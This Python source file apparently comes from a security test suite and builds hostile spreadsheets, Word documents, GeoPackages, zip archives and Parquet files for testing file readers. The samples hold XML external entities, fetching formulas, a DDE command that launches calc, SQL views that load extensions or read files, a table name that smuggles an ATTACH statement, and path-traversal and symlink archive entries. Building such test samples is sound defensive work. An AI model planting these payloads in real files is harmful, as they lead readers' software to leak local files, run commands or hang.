"""Workbooks, documents, databases and archives that are made to lead a trusting reader elsewhere."""

import io
import json
import sqlite3
import stat
import zipfile
from collections.abc import Mapping

import geopandas as gpd
import pyarrow as pa
import pyarrow.parquet as pq
import shapely

from benchmarks.hostile_texts import Elsewhere, Files


def pack(parts: Mapping[str, str | bytes], *, links: Mapping[str, str] | None = None) -> bytes:
    """Put parts in an archive, and links as Unix has them."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return file.getvalue()


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relate(*relations: tuple[str, str, bool]) -> str:
    """Write the relations of a part: a kind, a target and whether it is outside."""
    listed = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if is_outside else "/>")
        for i, (kind, target, is_outside) in enumerate(relations, start=1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{listed}</Relationships>'


def sheet_of(*cells: str) -> str:
    """Write a sheet of a heading and a cell below it, and what else is given."""
    rows = f'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="2">{"".join(cells)}</row>'
    return f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'


def name_in_excel(to: Elsewhere) -> Files:
    """Parts that say where other parts are, and formulas that fetch."""
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    shared = f'<sst xmlns="{SHEET}"><si><t>a</t></si></sst>'
    plain = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{types}"/></Types>',
        "_rels/.rels": relate(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relate(
            ("worksheet", "worksheets/sheet1.xml", False), ("sharedStrings", "sharedStrings.xml", False)
        ),
        "xl/sharedStrings.xml": shared,
        "xl/worksheets/sheet1.xml": sheet_of('<c r="A2" t="s"><v>0</v></c>'),
    }
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'
    own = "xl/worksheets/_rels/sheet1.xml.rels"
    sheets = {
        f"sheet elsewhere ({number})": {"xl/_rels/workbook.xml.rels": relate(("worksheet", target, is_outside))}
        for number, (target, is_outside) in enumerate(
            [(f"file://{to.other}", True), (f"../../../../../..{to.other}", False), (f"{to.url}/a.xml", True)], start=1
        )
    }
    formulas = {
        f"formula ({number})": {"xl/worksheets/sheet1.xml": sheet_of(f'<c r="A2"><f>{formula}</f><v>1</v></c>')}
        for number, formula in enumerate(
            [
                f'WEBSERVICE("{to.url}/a")',
                f'HYPERLINK("{to.url}/a","a")',
                "cmd|' /C calc'!A0",
                f"'[{to.other}]A'!A1",
                f'IMAGE("{to.url}/a.png")',
                f'RTD("a","127.0.0.1:{to.port}","b")',
            ],
            start=1,
        )
    }
    linked = "xl/externalLinks/externalLink1.xml"
    changes: dict[str, dict[str, str]] = {
        "entity in the book": {"xl/workbook.xml": entity + plain["xl/workbook.xml"].replace('name="A"', 'name="&e;"')},
        "entity in the sheet": {
            "xl/worksheets/sheet1.xml": entity + sheet_of('<c r="A2" t="inlineStr"><is><t>&e;</t></is></c>')
        },
        "entity in the texts": {"xl/sharedStrings.xml": entity + shared.replace("<t>a", "<t>&e;")},
        "entity in the relations": {
            "xl/_rels/workbook.xml.rels": entity
            + plain["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "&e;")
        },
        "entity in the types": {"[Content_Types].xml": entity + plain["[Content_Types].xml"]},
        "link to another book": {
            linked: f'<externalLink xmlns="{SHEET}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relate(("externalLinkPath", f"file://{to.other}", True)),
        },
        "link in a cell": {own: relate(("hyperlink", f"{to.url}/a", True))},
        "picture": {own: relate(("image", f"{to.url}/a.png", True))},
        "connection": {
            "xl/connections.xml": f'<connections xmlns="{SHEET}"><connection id="1" type="4" refreshOnLoad="1">'
            f'<webPr url="{to.url}/a"/></connection></connections>'
        },
    }
    return {name: pack(plain | change) for name, change in (changes | sheets | formulas).items()}


ODF = "urn:oasis:names:tc:opendocument:xmlns:"


def name_in_opendocument(to: Elsewhere) -> Files:
    """Sheets that say where their rows are."""
    spaces = " ".join(f'xmlns:{name}="{ODF}{name}:1.0"' for name in ("office", "table", "text", "draw"))
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    text = '<table:table-cell office:value-type="string"><text:p>%s</text:p></table:table-cell>'

    def write(cell: str, *, before: str = "", more: str = "") -> bytes:
        rows = f"<table:table-row>{text % 'a'}</table:table-row><table:table-row>{cell}</table:table-row>"
        content = (
            f"{before}<office:document-content {spaces}><office:body><office:spreadsheet>"
            f'<table:table table:name="A">{more}{rows}</table:table></office:spreadsheet></office:body>'
            "</office:document-content>"
        )
        return pack(
            {
                "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                "META-INF/manifest.xml": f'<m:manifest xmlns:m="{ODF}manifest:1.0"/>',
                "content.xml": content,
            }
        )

    formula = '<table:table-cell office:value-type="string" table:formula="{}"><text:p>a</text:p></table:table-cell>'
    return {
        "entity": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'),
        "entity of an address": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "{to.url}/e">]>'),
        "rows elsewhere": write(text % "b", more=f'<table:table-source xlink:href="{to.url}/a.ods"/>'),
        "rows in a file": write(text % "b", more=f'<table:table-source xlink:href="file://{to.other}"/>'),
        "picture": write(text % f'<draw:image xlink:href="{to.url}/a.png"/>b'),
        "formula": write(formula.format(f"of:=WEBSERVICE(&quot;{to.url}/a&quot;)")),
        "formula of a file": write(formula.format(f"of:='file://{to.other}'#A.A1")),
        "dde": write(formula.format(f"of:=DDE(&quot;soffice&quot;;&quot;{to.other}&quot;;&quot;a&quot;)")),
    }


def name_in_word(to: Elsewhere) -> Files:
    """Documents that fetch their template, their pictures or their text."""
    spaces = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}"'
    rows = "".join(f"<w:tr><w:tc><w:p>{text}</w:p></w:tc></w:tr>" for text in ("<w:r><w:t>a</w:t></w:r>", "%s"))
    text = "<w:r><w:t>%s</w:t></w:r>"
    own = "word/_rels/document.xml.rels"

    def write(inner: str, *, before: str = "", **parts: str) -> bytes:
        body = f"<w:body><w:tbl>{rows % inner}</w:tbl></w:body>"
        named = {name.replace("__", "/"): part for name, part in parts.items()}
        return pack({"word/document.xml": f"{before}<w:document {spaces}>{body}</w:document>", **named})

    def lead(kind: str, target: str) -> bytes:
        packed = write(text % "b")
        with zipfile.ZipFile(io.BytesIO(packed)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        return pack({**parts, own: relate((kind, target, True))})

    field = '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText><w:t>b</w:t></w:r>'
    return {
        "entity": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'),
        "entity of a parameter": write(text % "b", before=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{to.url}/p">%p;]>'),
        "template": lead("attachedTemplate", f"{to.url}/a.dotm"),
        "picture": lead("image", f"{to.url}/a.png"),
        "part of a document": lead("subDocument", f"file://{to.other}"),
        "object": lead("oleObject", f"file://{to.other}"),
        "text in a field": write(field.format(f'INCLUDETEXT "{to.other}"')),
        "dde in a field": write(field.format(f'DDEAUTO c "{to.other}" a')),
        "chunk": write('<w:r><w:t>b</w:t></w:r><w:altChunk r:id="rId1"/>'),
    }


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS fid, NULL AS geom FROM n"
REGISTER = "INSERT INTO gpkg_geometry_columns VALUES ('omr', 'geom', 'POINT', 3006)"
LAYER = ("CREATE TABLE omr (fid INTEGER, geom BLOB, namn TEXT)", REGISTER, "INSERT INTO omr VALUES (1, NULL, 'a')")


def geopackage(*statements: str) -> bytes:
    """Make a small GeoPackage by hand, and then do something to it."""
    with sqlite3.connect(":memory:", isolation_level=None) as database:
        database.executescript(
            """
            PRAGMA application_id = 1196444487;
            CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
                organization_coordsys_id INTEGER, definition TEXT, description TEXT);
            INSERT INTO gpkg_spatial_ref_sys VALUES ('x', 3006, 'EPSG', 3006, '', '');
            CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT);
            CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT,
                srs_id INTEGER);
            PRAGMA writable_schema = ON;
            """
        )
        for statement in statements:
            database.execute(statement)
        content = database.serialize()
    database.close()
    return content


def pretend(sql: str) -> str:
    """Write a table into the schema that SQLite itself would not have made."""
    quoted = sql.replace("'", "''")
    return f"INSERT INTO sqlite_master VALUES ('table', 'omr', 'omr', 0, '{quoted}')"  # noqa: S608  # a test's own


def name_in_geopackage(to: Elsewhere) -> Files:
    """Make views that never end or call out, tables that open files, and systems that name grids."""
    system = "UPDATE gpkg_spatial_ref_sys SET organization = 'NONE', definition = '{}'"
    grids = f'GEOGCS["a",DATUM["a",SPHEROID["a",6378137,298],EXTENSION["PROJ4_GRIDS","@{to.url}/a,{to.other}"]]]'
    content = {
        "endless view": (f"CREATE VIEW omr AS {ENDLESS}", REGISTER),
        "view for list": (
            "DROP TABLE gpkg_contents",
            f"CREATE VIEW gpkg_contents AS {ENDLESS.replace('fid', 'table_name')}",
        ),
        "view for columns": (
            "DROP TABLE gpkg_geometry_columns",
            "CREATE VIEW gpkg_geometry_columns AS SELECT name AS table_name, 'sql' AS column_name FROM sqlite_master",
        ),
        "view that loads": (f"CREATE VIEW omr AS SELECT 1 AS fid, load_extension('{to.other}') AS geom", REGISTER),
        "view that reads": (f"CREATE VIEW omr AS SELECT 1 AS fid, readfile('{to.other}') AS geom", REGISTER),
        "virtual": ("CREATE VIRTUAL TABLE omr USING fts5(geom)", REGISTER),
        "virtual of a file": (pretend(f"CREATE VIRTUAL TABLE omr USING csv(filename='{to.other}')"), REGISTER),
        "virtual of a file, in disguise": (
            pretend(f"CREATE /* */ VIRTUAL TABLE omr USING csv(filename='{to.other}')"),
            REGISTER,
        ),
        "virtual of the schema, in disguise": (
            pretend("CREATE /**/ VIRTUAL TABLE omr USING fts5vocab('omr', 'row')"),
            REGISTER,
        ),
        "virtual of an endless view, in disguise": (
            f"CREATE VIEW slut AS {ENDLESS}",
            pretend("CREATE /**/ VIRTUAL TABLE omr USING fts5(geom, content='slut')"),
            REGISTER,
        ),
        "column that loads": (
            *LAYER,
            "UPDATE sqlite_master SET sql = 'CREATE TABLE omr (fid, geom, namn, b AS (load_extension(''a'')))'",
        ),
        "system of a file": (*LAYER, system.format(f"+init={to.other}:1")),
        "system at an address": (*LAYER, system.format(f"{to.url}/a")),
        "system with grids": (*LAYER, system.format(grids)),
        "name with another statement": (
            'CREATE TABLE "omr""; ATTACH ""a"" AS ""b" (fid INTEGER, geom BLOB)',
            "INSERT INTO gpkg_geometry_columns VALUES ('omr\"; ATTACH \"a\" AS \"b', 'geom', 'POINT', 3006)",
            'INSERT INTO "omr""; ATTACH ""a"" AS ""b" VALUES (1, NULL)',
        ),
        "trigger": (*LAYER, "CREATE TRIGGER t AFTER UPDATE ON omr BEGIN DELETE FROM omr; END"),
        "note of a file": (*LAYER, f"CREATE TABLE gpkg_metadata AS SELECT 'file://{to.other}' AS md_standard_uri"),
    }
    made = {name: geopackage(*statements) for name, statements in content.items()}
    logged = geopackage(*LAYER)
    return made | {"log of changes beside it": logged[:18] + b"\2\2" + logged[20:]}


def name_in_archive(to: Elsewhere) -> Files:
    """Map layers in archives whose names lead out, whose parts are links, or whose parts point on."""
    folder = to.other.parent
    layer = gpd.GeoDataFrame({"namn": ["a"]}, geometry=[shapely.Point(15, 58)], crs="EPSG:4326")
    layer.to_file(folder / "a.shp")
    plain: dict[str, str | bytes] = {
        f"a.{one}": (folder / f"a.{one}").read_bytes() for one in ("shp", "shx", "dbf", "prj")
    }
    wkt = str(plain["a.prj"], "utf-8") if isinstance(plain["a.prj"], bytes) else ""
    files = {
        f"name that leads out ({number})": pack({name.replace("shp", one): b"x" for one in ("shp", "dbf", "shx")})
        for number, name in enumerate(
            [
                "../annan.shp",
                "/annan.shp",
                "{annan}.shp",
                "a/../../annan.shp",
                "..\\annan.shp",
                f"/vsicurl/{to.url}/a.shp",
            ],
            start=1,
        )
    }
    for one in ("shp", "shx", "dbf", "prj"):
        rest = {name: part for name, part in plain.items() if name != f"a.{one}"}
        files[f"link for .{one}"] = pack(rest, links={f"a.{one}": str(to.other)})
    more: dict[str, dict[str, str | bytes]] = {
        "source for .shp": {"a.shp": f"<OGRVRTDataSource><SrcDataSource>{to.other}</SrcDataSource></OGRVRTDataSource>"},
        "source beside it": {
            "a.vrt": f"<OGRVRTDataSource><SrcDataSource>{to.other}</SrcDataSource></OGRVRTDataSource>"
        },
        "grids": {"a.prj": wkt.replace("DATUM[", 'EXTENSION["PROJ4_GRIDS","@http://127.0.0.1"],DATUM[', 1)},
        "system at an address": {"a.prj": f"{to.url}/a.prj"},
        "letters of a file": {"a.cpg": str(to.other)},
        "notes": {"a.shp.xml": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]><x>&e;</x>'},
        "archive within": {"b.zip": pack({"b.shp": b"x"})},
        "another file within": {"../../annan.csv": "a"},
    }
    return files | {name: pack(plain | parts) for name, parts in more.items()}


def name_in_parquet(to: Elsewhere) -> Files:
    """Columns that lie in another file, and systems that name one."""
    table = pa.table({"a": ["b"], "geometry": [shapely.to_wkb(shapely.Point(15, 58))]})
    about = {"version": "1.1.0", "primary_column": "geometry"}
    system = {"type": "link", "href": f"{to.url}/a"}
    files = {}
    for name, crs in (("system by link", system), ("system of a file", str(to.other)), ("plain", None)):
        geo = about | {"columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"], "crs": crs}}}
        file = io.BytesIO()
        pq.write_table(table.replace_schema_metadata({"geo": json.dumps(geo)}), file)
        files[name] = file.getvalue()
    whole = pq.ParquetFile(io.BytesIO(files.pop("plain")))
    whole.metadata.set_file_path(str(to.other))
    footer = io.BytesIO()
    whole.metadata.write_metadata_file(footer)
    return files | {"columns in another file": footer.getvalue()}
